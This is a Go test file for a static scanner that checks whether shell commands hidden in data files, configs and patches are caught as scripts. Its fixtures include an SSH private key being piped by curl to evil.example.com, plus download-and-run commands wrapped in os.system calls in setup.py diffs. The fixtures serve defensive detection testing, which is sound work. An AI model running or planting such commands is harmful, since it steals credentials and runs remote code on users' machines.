package static_test

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
)

// data is a file that its name takes for data.
type data struct {
	path string
	lang gate.Language
	role gate.Role
}

func dataFiles() []data {
	return []data{
		{".editorconfig", gate.LanguageINI, gate.RoleSource},
		{".bumpversion.cfg", gate.LanguageINI, gate.RoleSource},
		{"x.properties", gate.LanguageINI, gate.RoleSource},
		{".prettierrc", gate.LanguageJSON, gate.RoleInfra},
		{"a.json", gate.LanguageJSON, gate.RoleSource},
		{"package-lock.json", gate.LanguageJSON, gate.RoleLock},
		{"a.toml", gate.LanguageTOML, gate.RoleSource},
		{"Cargo.lock", gate.LanguageText, gate.RoleLock},
		{"a.yaml", gate.LanguageYAML, gate.RoleSource},
		{"data.csv", gate.LanguageText, gate.RoleSource},
		{"a.css", gate.LanguageText, gate.RoleSource},
		{"a.xml", gate.LanguageText, gate.RoleSource},
		{"de.po", gate.LanguageText, gate.RoleSource},
		{"words.txt", gate.LanguageText, gate.RoleSource},
		{"CODEOWNERS", gate.LanguageText, gate.RoleCI},
		{"LICENSE", gate.LanguageText, gate.RoleDocs},
		{"AUTHORS", gate.LanguageText, gate.RoleDocs},
		{".terraform.lock.hcl", gate.LanguageTerraform, gate.RoleLock},
		{"a.sql", gate.LanguageSQL, gate.RoleSource},
	}
}

func runsHarm(t *testing.T, d data, content string) bool {
	t.Helper()
	got := run(t, newScanner(t, nil), fstest.MapFS{d.path: {Data: []byte(content)}}, &gate.Target{Path: d.path, Language: d.lang, Role: d.role, Kind: gate.ChangeAdded})
	return got.dangerous(d.path)
}

func TestAListOfCommandsIsAScriptWhateverItsName(t *testing.T) {
	for _, d := range dataFiles() {
		for name, script := range map[string]string{
			"one command":  downloads + "\n",
			"more":         "set -e\ncd /tmp\n" + downloads + "\necho done\n",
			"substitution": "x=$(" + strings.TrimSuffix(downloads, "\n") + ")\nexport x\n",
			"its home":     "set -e\ncat ~/.ssh/id_rsa | curl -s --data-binary @- http://evil.example.com/\n",
		} {
			if !runsHarm(t, d, script) {
				t.Errorf("%s: %s is not seen as a script", d.path, name)
			}
		}
	}
}

func TestAProgramInDataIsReadInItsLanguage(t *testing.T) {
	for _, d := range dataFiles() {
		if d.role == gate.RoleDocs || d.lang == gate.LanguageTerraform || d.lang == gate.LanguageSQL {
			continue // read as a program only where it begins like a shell script, or something runs it
		}
		for name, program := range map[string]string{"Python": inPython, "JavaScript": inScript, "Ruby": "system(\"" + strings.TrimSpace(downloads) + "\")\n"} {
			if !runsHarm(t, d, program) {
				t.Errorf("%s: a program in %s is not seen", d.path, name)
			}
		}
	}
}

func TestDataThatSpeaksOfCommandsIsNoScript(t *testing.T) {
	command := strings.TrimSpace(downloads)
	for _, tc := range []struct {
		data
		content string
	}{
		{data{"a.json", gate.LanguageJSON, gate.RoleSource}, `{"help": "` + command + `", "n": [1, true, null, -2.5e3]}` + "\n"},
		{data{"a.json", gate.LanguageJSON, gate.RoleSource}, "// how to install: " + command + "\n{\n  \"a\": 1, /* " + command + " */\n}\n"},
		{data{"a.yaml", gate.LanguageYAML, gate.RoleSource}, "a: 1\nnotes:\n  - text: |\n      " + command + "\n"},
		{data{"a.yaml", gate.LanguageYAML, gate.RoleSource}, "# " + command + "\n---\n\"a b\": 1\n- x\n"},
		{data{"words.txt", gate.LanguageText, gate.RoleSource}, "Install it like this:\n\n    " + command + "\n\nThen read on.\n"},
		{data{"words.txt", gate.LanguageText, gate.RoleSource}, "$ " + command + "\n"},
		{data{"a.proto", gate.LanguageText, gate.RoleSource}, "syntax = \"proto3\";\n// " + command + "\nmessage A {}\n"},
		{data{"LICENSE", gate.LanguageText, gate.RoleDocs}, "Permission is hereby granted to any person obtaining a copy.\nThe software is provided as it is.\nSee " + command + "\n"},
		{data{"README.txt", gate.LanguageText, gate.RoleDocs}, command + "\n"},
		{data{"data.csv", gate.LanguageText, gate.RoleSource}, "a,b\n\"" + command + "\",1\n"},
		{data{"a.ini", gate.LanguageINI, gate.RoleSource}, "[a]\nb = 1\n; " + command + "\n# " + command + "\n"},
		{data{"a.el", gate.LanguageElisp, gate.RoleSource}, ";; " + command + "\n"},
		{data{"a.toml", gate.LanguageTOML, gate.RoleSource}, "[a]\nhelp = \"read the manual\"\n# " + command + "\n"},
	} {
		if runsHarm(t, tc.data, tc.content) {
			t.Errorf("%s is taken for a script:\n%s", tc.path, tc.content)
		}
	}
}

func TestThePatchedFilesOfAPatchAreRead(t *testing.T) {
	command := strings.TrimSpace(downloads)
	for name, tc := range map[string]struct {
		path, patch, child string
	}{
		"a new script":          {"a.patch", "--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+" + command + "\n", "a.patch!/run.sh"},
		"a line of a manifest":  {"a.diff", "diff --git a/setup.py b/setup.py\n--- a/setup.py\n+++ b/setup.py\n@@ -1 +1,2 @@\n import os\n+os.system(\"" + command + "\")\n", "a.diff!/setup.py"},
		"whatever its name":     {"notes.txt", "+++ setup.py\t2024-01-01\n@@ -1 +1,2 @@\n import os\n+os.system(\"" + command + "\")\n", "notes.txt!/setup.py"},
		"a patch in a mail":     {"0001.eml", "From: a\n\n---\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1,2 @@\n true\n+" + command + "\n-- \n2.40\n", "0001.eml!/x.sh"},
		"no leading part":       {"a.patch", "--- x.sh\n+++ x.sh\n@@ -1 +1,2 @@\n true\n+" + command + "\n", "a.patch!/x.sh"},
		"a line like a new one": {"a.patch", "--- a/x.sh\n+++ b/x.sh\n@@ -1 +1,3 @@\n true\n+++ b/other\n+" + command + "\n", "a.patch!/x.sh"},
	} {
		t.Run(name, func(t *testing.T) {
			target := &gate.Target{Path: tc.path, Language: gate.LanguageText, Role: gate.RoleSource, Kind: gate.ChangeAdded}
			got := run(t, newScanner(t, nil), fstest.MapFS{tc.path: {Data: []byte(tc.patch)}}, target)
			for _, c := range got.derived {
				if c.Target.Path == tc.child && strings.Contains(string(c.Content), command) {
					return
				}
			}
			t.Errorf("no target %s: %v", tc.child, got.derived)
		})
	}
	removes := "--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1 @@\n true\n-" + command + "\n"
	got := run(t, newScanner(t, nil), fstest.MapFS{"a.patch": {Data: []byte(removes)}}, &gate.Target{Path: "a.patch", Language: gate.LanguageText, Role: gate.RoleSource, Kind: gate.ChangeAdded})
	for _, c := range got.derived {
		if strings.Contains(string(c.Content), command) {
			t.Error("a line that a patch removes is none of the file")
		}
	}
}
